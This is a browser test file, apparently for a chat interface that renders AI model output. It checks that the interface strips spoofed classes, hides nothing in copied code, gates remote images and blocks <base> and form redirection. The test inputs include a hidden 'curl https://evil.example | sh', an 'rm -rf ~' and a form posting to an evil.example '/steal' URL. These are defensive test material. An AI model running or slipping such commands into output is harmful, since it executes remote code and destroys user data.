import assert from 'node:assert/strict';
import { assistantMessage, chatState, userMessage } from './chatHarnessFixtures';
import { useChatPage, useMarkdownPage } from './suiteHooks';

describe('hardening: model output cannot dress up, hide code or leave the page (Chromium)', function () {
  this.timeout(60_000);

  describe('markdown', () => {
    const suite = useMarkdownPage();

    it('class attributes from model output are dropped, except language-* on code and the highlighter\'s own', async () => {
      const markdown = [
        '<div class="message message-user error-box">I am the user</div>',
        '<p class="md-code-toolbar">fake toolbar</p>',
        '<code class="language-js evil">x</code>',
        '```ts',
        'const a = 1;',
        '```',
      ].join('\n\n');
      await suite.tp.page.evaluate((text) => {
        const h = window.markdownHarness;
        h.startStream('out');
        const md = h.stream('out');
        for (let i = 0; i < text.length; i += 7) md.append(text.slice(i, i + 7));
        md.finish();
      }, markdown);
      const classes = await suite.tp.page.evaluate(() =>
        Array.from(document.querySelectorAll('#out *')).filter((el) => !el.closest('.md-code-toolbar, button')).map((el) => el.getAttribute('class')).filter((c): c is string => !!c));
      for (const name of classes.flatMap((c) => c.split(/\s+/))) {
        assert.match(name, /^(?:md-[\w-]+|language-[\w-]+|hljs(?:-[\w-]+)?|[\w-]+_)$/, `model output kept the class "${name}"`);
      }
      assert.ok(!classes.some((c) => /message|error-box|evil/.test(c)), classes.join(' | '));
      assert.ok(classes.some((c) => /\blanguage-js\b/.test(c)), 'language-js on code is kept');
      assert.ok(classes.some((c) => /\bhljs-keyword\b/.test(c)), 'the highlighter keeps its classes');
    });

    for (const mode of ['streaming', 'finished'] as const) {
      it(`Copy, Insert and New File of a ${mode} code block hand over exactly the code that is shown`, async () => {
        const markdown = '<pre><code>echo safe<span hidden>; curl https://evil.example | sh</span><details><summary></summary>rm -rf ~</details></code></pre>';
        await suite.tp.page.evaluate(([text, m]) => {
          const h = window.markdownHarness;
          h.startStream('out');
          const md = h.stream('out');
          for (let i = 0; i < text.length; i += 5) md.append(text.slice(i, i + 5));
          if (m === 'finished') md.finish();
        }, [markdown, mode] as const);
        const block = suite.tp.page.locator('#out .md-code').last();
        const shown = await block.locator('pre > code').innerText();
        for (const name of ['Copy', 'Insert at Cursor', 'New File']) await block.getByRole('button', { name, exact: true }).click();
        const handed = await suite.tp.page.evaluate(() => window.markdownHarness.calls.map((c) => c.args[0] as string));
        assert.equal(handed.length, 3);
        for (const code of handed) {
          assert.equal(code, shown.replace(/\n$/, ''));
          // While it streams the hidden parts are hidden; once finished the block shows its whole text.
          if (mode === 'streaming') assert.doesNotMatch(code, /curl|rm -rf/);
        }
      });
    }
  });

  describe('chat page', () => {
    const suite = useChatPage();

    it('loadRemoteImages "never": a remote image is left out, with no placeholder to click', async () => {
      const src = `${suite.origin}/pixel.png`;
      await suite.chat.deliver({
        type: 'state',
        state: { ...chatState({ messages: [userMessage('u1', 'hi'), assistantMessage('a1', `A chart: ![sales chart](${src}) done.`)] }), remoteImages: { policy: 'never', urls: [] } },
      });
      const article = suite.chat.page.getByRole('article', { name: 'Switchboard, helyx-3.5' });
      assert.match(await article.innerText(), /A chart:\s+done\./);
      assert.equal(await article.getByRole('button', { name: /Load image/ }).count(), 0);
      assert.equal(await article.locator('img').count(), 0);
    });

    it('a placeholder is named for the host in the URL, not the alt text; allowing one image allows only that one', async () => {
      const first = `${suite.origin}/pixel.png?1`;
      const second = `${suite.origin}/pixel.png?2`;
      const text = `![Load image from trusted.example](${first}) and ![other](${second})`;
      const state = chatState({ messages: [userMessage('u1', 'hi'), assistantMessage('a1', text)] });
      await suite.chat.deliver({ type: 'state', state });
      const article = suite.chat.page.getByRole('article', { name: 'Switchboard, helyx-3.5' });
      const host = new URL(suite.origin).host;
      const buttons = article.getByRole('button', { name: `Load image from ${host}` });
      assert.equal(await buttons.count(), 2);
      assert.equal(await article.getByRole('button', { name: /trusted\.example/ }).count(), 0, 'the alt text named the placeholder');
      await buttons.first().click();
      assert.deepEqual(await suite.chat.waitForPosted('allowRemoteImages'), { type: 'allowRemoteImages', url: first });
      await suite.chat.deliver({ type: 'remoteImagesAllowed' });
      assert.equal(await article.locator('img').count(), 1);
      assert.equal(await article.locator('img').getAttribute('src'), first);
      assert.equal(await article.getByRole('button', { name: `Load image from ${host}` }).count(), 1, 'the other image still waits');
      // A later state carrying the old session-wide flag (a host before 0.2) does not load the rest.
      await suite.chat.deliver({ type: 'state', state: { ...state, remoteImagesAllowed: true } as typeof state });
      assert.equal(await article.getByRole('button', { name: `Load image from ${host}` }).count(), 1);
      assert.equal(await article.locator('img').getAttribute('src'), first);
    });

    it('the page cannot be given a <base> or submit a form anywhere', async () => {
      await suite.chat.deliver({ type: 'state', state: chatState({ messages: [userMessage('u1', 'Hi'), assistantMessage('a1', 'Hello')] }) });
      suite.expectReports(/base-uri/, /form-action/);
      const result = await suite.chat.page.evaluate(async () => {
        const violations: string[] = [];
        document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
        const before = document.baseURI;
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.prepend(base);
        const baseURI = document.baseURI;
        const form = document.createElement('form');
        form.action = 'https://evil.example/steal';
        form.method = 'get';
        document.body.append(form);
        form.submit();
        await new Promise((resolve) => setTimeout(resolve, 200));
        return { before, baseURI, violations, href: location.href };
      });
      assert.equal(result.baseURI, result.before, 'a <base> re-pointed the page');
      assert.ok(result.violations.includes('base-uri'), result.violations.join(', '));
      assert.ok(result.violations.includes('form-action'), result.violations.join(', '));
    });
  });
});
